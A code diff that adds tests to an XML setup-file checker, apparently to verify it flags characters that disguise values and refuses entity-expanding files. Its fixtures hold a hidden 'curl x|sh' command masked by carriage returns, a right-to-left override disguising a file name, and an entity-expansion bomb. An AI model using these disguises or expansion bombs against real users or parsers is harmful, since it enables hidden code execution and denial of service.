@@ -77,6 +77,45 @@ TEST(CheckCommand, ReportsEachProblemOnItsLine) {
     }
 }
 
+TEST(CheckCommand, ReportsCharactersThatCanDisguiseAValue) {
+    ScratchDirectory directory;
+    directory.Write("disguised.xml", R"(<SETUP>
+  <CONFIG><TITLE>&#x202E;txt.exe</TITLE></CONFIG>
+  <PREEXECUTE>
+    <COMMAND>curl x|sh ;#&#13;notepad.exe&#13;readme.txt&#x85;</COMMAND>
+    <COMMAND>tab&#9;only</COMMAND>
+  </PREEXECUTE>
+</SETUP>
+)");
+    CommandResult result = RunKorvane({"check", "disguised.xml"});
+    EXPECT_EQ(result.status, 1);
+    EXPECT_EQ(result.out,
+              "disguised.xml:2: TITLE holds characters that can disguise it on a screen: "
+              "\\u{202E}\n"
+              "disguised.xml:4: COMMAND holds characters that can disguise it on a screen: "
+              "\\x0D \\u{0085}\n");
+}
+
+// A file can be well-formed and orderly and still be refused as a whole: here one value
+// references an entity of 10000 empty elements 3400 times, beyond what a load walks through.
+TEST(CheckCommand, FailsOnEveryFileALoadRefuses) {
+#if defined(__SANITIZE_ADDRESS__)
+    GTEST_SKIP() << "instrumented, the walks through 34 million nodes that this file takes last "
+                    "minutes";
+#endif
+    ScratchDirectory directory;
+    std::string entity, references;
+    for (int i = 0; i < 10000; ++i) entity += "<x/>";
+    for (int i = 0; i < 3400; ++i) references += "&e;";
+    directory.Write("expanding.xml", "<!DOCTYPE SETUP [<!ENTITY e \"" + entity +
+                                         "\">]>\n<SETUP><CONFIG><V>" + references +
+                                         "</V></CONFIG></SETUP>\n");
+    CommandResult result = RunKorvane({"check", "expanding.xml"});
+    EXPECT_EQ(result.status, 1);
+    EXPECT_NE(result.out.find("expanding.xml: expands beyond what can be read"), std::string::npos)
+        << result.out;
+}
+
 TEST(CheckCommand, MalformedAndMissingFilesFail) {
     ScratchDirectory directory;
     directory.Write("broken.xml", "<SETUP>\n<FILES>\n</SETUP>");
